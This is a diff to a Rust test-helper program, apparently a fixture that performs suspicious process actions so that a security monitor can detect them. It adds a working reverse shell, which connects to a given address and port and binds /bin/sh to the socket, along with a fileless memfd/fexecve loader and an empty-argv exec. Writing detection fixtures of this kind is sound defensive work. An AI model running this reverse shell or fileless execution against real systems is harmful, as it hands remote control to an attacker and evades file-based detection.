@@ -6,7 +6,8 @@
 //!   --fork   do the action in a forked child; the parent prints `child <pid> exited <code>` or
 //!            `child <pid> killed <signal>` and exits 0
 //! Actions: exit CODE | sleep SECS | busy SECS | fork | mprotect-wx | mmap-wx | pkey-mprotect-wx |
-//!          ptrace-attach | ptrace-seize | connect ADDR PORT | memfd NAME | threads N
+//!          ptrace-attach | ptrace-seize | connect ADDR PORT | memfd NAME | threads N |
+//!          memfd-exec ARGS... | reverse-shell ADDR PORT | exec-empty-argv PATH
 use std::{
     io::{BufRead, Write},
     net::{SocketAddr, TcpStream},
@@ -116,6 +117,54 @@ fn act(args: &[String]) {
                 x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
             }
         }
+        "memfd-exec" => {
+            // Copy our own executable into a memfd and run it from there (fileless execution).
+            let exe = std::fs::read("/proc/self/exe").unwrap_or_else(|_| fail("read /proc/self/exe"));
+            // SAFETY: valid C string literal.
+            let fd = unsafe { libc::memfd_create(c"pw-fileless".as_ptr(), 0) };
+            if fd < 0 {
+                fail("memfd_create");
+            }
+            // SAFETY: writing our buffer to our fd.
+            if unsafe { libc::write(fd, exe.as_ptr().cast(), exe.len()) } != exe.len() as isize {
+                fail("write memfd");
+            }
+            let rest: Vec<std::ffi::CString> = args[1..]
+                .iter()
+                .map(|a| std::ffi::CString::new(a.as_str()).unwrap_or_default())
+                .collect();
+            let mut argv: Vec<*const libc::c_char> = vec![c"pw-fileless".as_ptr()];
+            argv.extend(rest.iter().map(|a| a.as_ptr()));
+            argv.push(std::ptr::null());
+            let envp: [*const libc::c_char; 1] = [std::ptr::null()];
+            // SAFETY: NULL-terminated argv/envp of valid C strings.
+            unsafe { libc::fexecve(fd, argv.as_ptr(), envp.as_ptr()) };
+            fail("fexecve");
+        }
+        "reverse-shell" => {
+            // Connect, put the socket on stdin/stdout/stderr, and exec a shell on it.
+            let addr: SocketAddr = format!("{}:{}", arg(1), arg(2)).parse().unwrap_or_else(|_| fail("address"));
+            let stream = TcpStream::connect(addr).unwrap_or_else(|_| fail("connect"));
+            use std::os::fd::AsRawFd;
+            let fd = stream.as_raw_fd();
+            // SAFETY: duplicating our own socket fd onto 0, 1, 2, then exec.
+            unsafe {
+                libc::dup2(fd, 0);
+                libc::dup2(fd, 1);
+                libc::dup2(fd, 2);
+                libc::execl(c"/bin/sh".as_ptr(), c"sh".as_ptr(), c"-i".as_ptr(), std::ptr::null::<libc::c_char>());
+            }
+            fail("exec /bin/sh");
+        }
+        "exec-empty-argv" => {
+            // execve with an empty argv: the new program's command line is empty.
+            let path = std::ffi::CString::new(arg(1)).unwrap_or_else(|_| fail("path"));
+            let argv: [*const libc::c_char; 1] = [std::ptr::null()];
+            let envp: [*const libc::c_char; 1] = [std::ptr::null()];
+            // SAFETY: valid path, NULL-terminated (empty) argv and envp.
+            unsafe { libc::execve(path.as_ptr(), argv.as_ptr(), envp.as_ptr()) };
+            fail("execve");
+        }
         "threads" => {
             let n: usize = arg(1).parse().unwrap_or(4);
             let handles: Vec<_> = (0..n).map(|i| std::thread::spawn(move || i * 2)).collect();
@@ -219,6 +268,11 @@ fn main() {
         say(&format!("ready {}", std::process::id()));
         let mut line = String::new();
         let _ = std::io::stdin().lock().read_line(&mut line);
+    }
+    if args.is_empty() {
+        // Started with an empty argv (exec-empty-argv): linger so the monitor can look.
+        std::thread::sleep(Duration::from_secs(3));
+        return;
     }
     if !fork {
         act(&args);
